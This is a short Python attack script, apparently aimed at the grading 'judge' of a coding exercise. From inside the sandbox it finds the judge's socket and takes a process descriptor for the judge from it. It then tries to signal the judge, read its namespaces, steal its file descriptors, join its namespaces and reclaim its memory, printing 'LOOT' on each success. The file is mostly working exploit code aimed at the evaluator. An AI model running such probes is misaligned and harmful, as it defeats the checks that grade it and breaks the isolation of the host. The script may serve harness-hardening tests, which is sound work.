# attack: asks the socket to the judge who is at the other end, gets a descriptor of that process and uses it
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import fcntl
import os
import signal
import socket
import stat
import struct

libc = ctypes.CDLL(None, use_errno=True)
SO_PEERCRED, SO_PEERGROUPS, SO_PEERPIDFD = 17, 59, 77
for fd in range(3, 64):
    try:
        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
            continue
    except OSError:
        continue
    judge = socket.socket(fileno=os.dup(fd))
    print("who:", struct.unpack("3i", judge.getsockopt(socket.SOL_SOCKET, SO_PEERCRED, 12)))
    try:
        pidfd = judge.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
    except OSError as error:
        print(error)
        continue
    print("a descriptor:", pidfd, os.readlink(f"/proc/self/fd/{pidfd}") if os.path.exists("/proc/self/fd") else "")
    try:
        signal.pidfd_send_signal(pidfd, 0)
        print("LOOT: may send signals to the judge")
    except OSError as error:
        print("signal", error)
    for request in (*range(0xFF01, 0xFF0B), 0xC040FF0B):  # the namespaces of the process; what is known of it
        try:
            print("LOOT:" if request != 0xC040FF0B else "info", hex(request), fcntl.ioctl(pidfd, request, bytes(64) if request > 0xFFFF else 0))
        except OSError as error:
            print(hex(request), error.strerror)
    for name, number, arguments in (("pidfd_getfd", 438, (pidfd, 0, 0)), ("setns", 308, (pidfd, 0x40000000)), ("process_madvise", 440, (pidfd, 0, 0, 21, 0)),
                                    ("process_mrelease", 448, (pidfd, 0)), ("waitid", 247, (3, pidfd, 0, 1 | 4, 0))):  # fmt: skip
        result = libc.syscall(ctypes.c_long(number), *arguments)
        print("LOOT:" if result >= 0 and name != "waitid" else "no", name, result, os.strerror(ctypes.get_errno()))
print("TRIED")
